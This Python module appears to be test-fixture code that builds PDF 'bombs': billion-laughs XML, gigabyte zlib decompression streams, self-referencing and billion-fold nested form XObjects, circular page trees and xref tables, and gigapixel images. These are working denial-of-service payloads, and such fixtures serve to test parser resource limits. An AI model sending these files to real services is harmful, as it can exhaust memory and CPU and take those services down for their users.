"""The bombs that are PDF, and what they and the others are put together from."""

from __future__ import annotations

import io
import struct
import zlib
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterable

_MIB = 1 << 20


def billion_laughs() -> bytes:
    """Give XML of ten entities, each ten times the one before."""
    entities = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))
    return f'<!DOCTYPE x [<!ENTITY l0 "lol">{entities}]><x>&l9;</x>'.encode()


def deflate_repeated(block: bytes, times: int) -> bytes:
    """Give a zlib stream of `block` repeated, without ever holding it."""
    squeezer = zlib.compressobj(9)
    head = squeezer.compress(b"") + squeezer.flush(zlib.Z_FULL_FLUSH)
    piece = squeezer.compress(block) + squeezer.flush(zlib.Z_FULL_FLUSH)
    last = zlib.compressobj(9, wbits=-15).flush()
    checksum = 1
    for _ in range(times):
        checksum = zlib.adler32(block, checksum)
    return head + piece * times + last + struct.pack(">I", checksum)


def pdf(
    *objects: bytes,
    page: bytes = b"/MediaBox[0 0 200 200]",
    resources: bytes = b"",
    content: int = 0,
) -> bytes:
    """Give a one-page PDF; `objects` are numbered from 4, `content` is the number of one."""
    contents = b"/Contents %d 0 R" % content if content else b""
    parts = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R%b/Resources<<%b>>%b>>" % (page, resources, contents),
        *objects,
    ]
    return assemble(parts)


def assemble(parts: Iterable[bytes], trailer: bytes = b"") -> bytes:
    """Number the objects from 1 and add a cross-reference table and a trailer."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    places = []
    for number, part in enumerate(parts, start=1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%b\nendobj\n" % (number, part))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1))
    out.writelines(b"%010d 00000 n \n" % place for place in places)
    out.write(
        b"trailer\n<</Size %d/Root 1 0 R%b>>\nstartxref\n%d\n%%%%EOF\n"
        % (len(places) + 1, trailer, start)
    )
    return out.getvalue()


def stream(content: bytes, entries: bytes = b"/Filter/FlateDecode") -> bytes:
    return b"<</Length %d%b>>\nstream\n%b\nendstream" % (len(content), entries, content)


def pdf_four_million_fills() -> bytes:
    block = b"0 0 200 200 re f\n" * 4_000
    return pdf(stream(deflate_repeated(block, 1_000)), content=4)


def pdf_form_drawn_a_billion_times() -> bytes:
    forms = []
    for level in range(9):
        inner = b"/X Do " * 10 if level < 8 else b"0 0 9 9 re f"
        entries = b"/Type/XObject/Subtype/Form/BBox[0 0 200 200]"
        if level < 8:
            entries += b"/Resources<</XObject<</X %d 0 R>>>>" % (level + 6)
        forms.append(stream(inner, entries))
    return pdf(stream(b"/X Do", b""), *forms, resources=b"/XObject<</X 5 0 R>>", content=4)


def pdf_form_that_draws_itself() -> bytes:
    entries = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 4 0 R>>>>"
    return pdf(stream(b"/X Do /X Do", entries), resources=b"/XObject<</X 4 0 R>>", content=4)


def pdf_gigabyte_of_spaces() -> bytes:
    return pdf(stream(deflate_repeated(b" " * _MIB, 1024)), content=4)


def pdf_gigabyte_of_saves() -> bytes:
    return pdf(stream(deflate_repeated(b"q Q " * (_MIB // 4), 1024)), content=4)


def pdf_deflated_twice() -> bytes:
    inner = deflate_repeated(bytes(_MIB), 2048)
    body = stream(zlib.compress(inner, 9), b"/Filter[/FlateDecode/FlateDecode]")
    return pdf(body, content=4)


def _pdf_image(side: int, bits: int) -> bytes:
    rows = deflate_repeated(bytes(side * bits // 8), side)
    entries = (
        b"/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent %d"
        b"/ColorSpace/DeviceGray/Filter/FlateDecode" % (side, side, bits)
    )
    return pdf(
        stream(b"200 0 0 200 0 0 cm /X Do", b""),
        stream(rows, entries),
        resources=b"/XObject<</X 5 0 R>>",
        content=4,
    )


def pdf_picture_of_900_megapixels() -> bytes:
    return _pdf_image(30_000, 8)


def pdf_bitmap_of_4_gigapixels() -> bytes:
    return _pdf_image(65_528, 1)


def pdf_tiny_tiles() -> bytes:
    entries = (
        b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]"
        b"/XStep .0001/YStep .0001/Resources<<>>"
    )
    paint = stream(b"/Pattern cs /P scn 0 0 200 200 re f", b"")
    tile = stream(b"0 0 1 1 re f", entries)
    return pdf(paint, tile, resources=b"/Pattern<</P 5 0 R>>", content=4)


def pdf_tiny_dashes() -> bytes:
    return pdf(stream(b"[.00001 .00001] 0 d 0 0 m 200 200 l S " * 50, b""), content=4)


def pdf_page_tree_60000_deep() -> bytes:
    depth = 60_000
    nodes = [
        b"<</Type/Pages/Kids[%d 0 R]/Count 1%b>>"
        % (number + 1, b"/Parent %d 0 R" % (number - 1) if number > 2 else b"")
        for number in range(2, depth)
    ]
    leaf = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 9 9]>>" % (depth - 1)
    return assemble([b"<</Type/Catalog/Pages 2 0 R>>", *nodes, leaf])


def pdf_page_tree_in_a_circle() -> bytes:
    return assemble(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R 3 0 R]/Count 2000000000/Parent 3 0 R>>",
            b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2000000000/Parent 2 0 R>>",
        ]
    )


def pdf_page_of_70_metres() -> bytes:
    return pdf(stream(b"0 0 9 9 re f", b""), page=b"/MediaBox[0 0 200000 200000]", content=4)


def pdf_page_without_end() -> bytes:
    box = b"/MediaBox[-1e38 -1e38 1e38 1e38]/UserUnit 1e30"
    return pdf(stream(b"0 0 9 9 re f", b""), page=box, content=4)


def pdf_two_billion_pages() -> bytes:
    return assemble(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        ]
    )


def pdf_tables_in_a_circle() -> bytes:
    plain = pdf(stream(b"0 0 9 9 re f", b""), content=4)
    start = int(plain.rsplit(b"startxref\n", 1)[1].split()[0])
    return plain.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev %d>>" % start)


def pdf_arrays_100000_deep() -> bytes:
    return pdf(b"[" * 100_000 + b"]" * 100_000, resources=b"/ExtGState 4 0 R")


def pdf_metadata_of_billion_laughs() -> bytes:
    packet = (
        b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>'
        + billion_laughs()
        + b'<?xpacket end="w"?>'
    )
    return assemble(
        [
            b"<</Type/Catalog/Pages 2 0 R/Metadata 4 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
            stream(packet, b"/Type/Metadata/Subtype/XML"),
        ]
    )
